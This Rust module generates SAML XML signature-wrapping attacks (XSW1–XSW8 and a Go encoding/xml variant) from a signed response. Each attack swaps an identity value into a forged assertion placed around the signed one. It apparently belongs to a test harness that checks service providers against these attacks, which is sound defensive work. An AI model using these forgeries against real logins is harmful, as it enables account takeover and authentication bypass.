//! Signature wrapping: XSW 1 to 8 (Somorovsky et al., "On Breaking SAML", 2012), made from a freshly
//! signed response. Each moves the signed part somewhere else and puts a forged one in its place.

use super::{Issued, Sign, random_id};

/// One way to wrap.
pub struct Wrapping {
    pub name: &'static str,
    /// How the response must be signed for the attack to make sense.
    pub sign: Sign,
    make: fn(&Parts) -> String,
}

impl Wrapping {
    /// The attack on `issued`, in which `from` (a part of the identity, such as an e-mail) becomes `to`.
    pub fn attack(&self, issued: &Issued, from: &str, to: &str) -> String {
        let cut = |text: &str, part: &Option<String>| match part {
            Some(part) => text.replacen(part, "", 1),
            None => text.to_owned(),
        };
        let assertion = issued.assertion.clone().expect("a response that is wrapped has an assertion");
        let parts = Parts {
            response: issued.xml.clone(),
            response_signature: issued.response_signature.clone().unwrap_or_default(),
            unsigned_response: cut(&issued.xml, &issued.response_signature),
            unsigned_assertion: cut(&assertion, &issued.assertion_signature),
            assertion_signature: issued.assertion_signature.clone().unwrap_or_default(),
            assertion,
            response_id: issued.response_id.clone(),
            assertion_id: issued.assertion_id.clone(),
            from: from.to_owned(),
            to: to.to_owned(),
        };
        (self.make)(&parts)
    }
}

/// Every wrapping, by its name in SAML Raider.
pub const WRAPPINGS: [Wrapping; 9] = [
    Wrapping { name: "XSW1", sign: Sign::Response, make: original_response_inside_the_signature },
    Wrapping { name: "XSW2", sign: Sign::Response, make: original_response_before_a_detached_signature },
    Wrapping { name: "XSW3", sign: Sign::Assertion, make: forged_assertion_before_the_signed_one },
    Wrapping { name: "XSW4", sign: Sign::Assertion, make: signed_assertion_inside_the_forged_one },
    Wrapping { name: "XSW5", sign: Sign::Assertion, make: original_assertion_at_the_end },
    Wrapping { name: "XSW6", sign: Sign::Assertion, make: original_assertion_inside_the_signature },
    Wrapping { name: "XSW7", sign: Sign::Assertion, make: forged_assertion_in_extensions },
    Wrapping { name: "XSW8", sign: Sign::Assertion, make: original_assertion_inside_an_object },
    // Go's encoding/xml keeps the last of two (CVE-2022-41912).
    Wrapping { name: "forged assertion after", sign: Sign::Assertion, make: forged_assertion_after_the_signed_one },
];

struct Parts {
    response: String,
    response_signature: String,
    unsigned_response: String,
    assertion: String,
    assertion_signature: String,
    unsigned_assertion: String,
    response_id: String,
    assertion_id: String,
    from: String,
    to: String,
}

impl Parts {
    fn forged_response(&self) -> String {
        self.forged(&self.unsigned_response).replace(&self.response_id, &random_id())
    }

    fn forged_assertion(&self) -> String {
        self.forged(&self.unsigned_assertion).replace(&self.assertion_id, &random_id())
    }

    fn forged(&self, text: &str) -> String {
        text.replace(&self.from, &self.to)
    }

    fn with_assertion(&self, other: &str) -> String {
        self.response.replacen(&self.assertion, other, 1)
    }
}

/// Puts `inner` before the last `</name>`.
fn at_the_end(text: &str, name: &str, inner: &str) -> String {
    let at = text.rfind(&format!("</{name}>")).expect("the element is closed");
    format!("{}{inner}{}", &text[..at], &text[at..])
}

fn after_issuer(text: &str, inner: &str) -> String {
    let (before, after) = text.split_once("</saml:Issuer>").expect("there is an Issuer");
    format!("{before}</saml:Issuer>{inner}{after}")
}

fn original_response_inside_the_signature(parts: &Parts) -> String {
    let signature = at_the_end(&parts.response_signature, "ds:Signature", &parts.unsigned_response);
    after_issuer(&parts.forged_response(), &signature)
}

fn original_response_before_a_detached_signature(parts: &Parts) -> String {
    after_issuer(&parts.forged_response(), &format!("{}{}", parts.unsigned_response, parts.response_signature))
}

fn forged_assertion_before_the_signed_one(parts: &Parts) -> String {
    parts.with_assertion(&format!("{}{}", parts.forged_assertion(), parts.assertion))
}

fn forged_assertion_after_the_signed_one(parts: &Parts) -> String {
    parts.with_assertion(&format!("{}{}", parts.assertion, parts.forged_assertion()))
}

fn signed_assertion_inside_the_forged_one(parts: &Parts) -> String {
    parts.with_assertion(&at_the_end(&parts.forged_assertion(), "saml:Assertion", &parts.assertion))
}

fn original_assertion_at_the_end(parts: &Parts) -> String {
    let forged = after_issuer(&parts.forged_assertion(), &parts.assertion_signature);
    parts.with_assertion(&format!("{forged}{}", parts.unsigned_assertion))
}

fn original_assertion_inside_the_signature(parts: &Parts) -> String {
    let signature = at_the_end(&parts.assertion_signature, "ds:Signature", &parts.unsigned_assertion);
    parts.with_assertion(&after_issuer(&parts.forged_assertion(), &signature))
}

/// The forged one keeps the ID of the signed one.
fn forged_assertion_in_extensions(parts: &Parts) -> String {
    let forged = parts.forged(&parts.unsigned_assertion);
    after_issuer(&parts.response, &format!("<samlp:Extensions>{forged}</samlp:Extensions>"))
}

fn original_assertion_inside_an_object(parts: &Parts) -> String {
    let object = format!("<ds:Object>{}</ds:Object>", parts.unsigned_assertion);
    let signature = at_the_end(&parts.assertion_signature, "ds:Signature", &object);
    parts.with_assertion(&after_issuer(&parts.forged_assertion(), &signature))
}
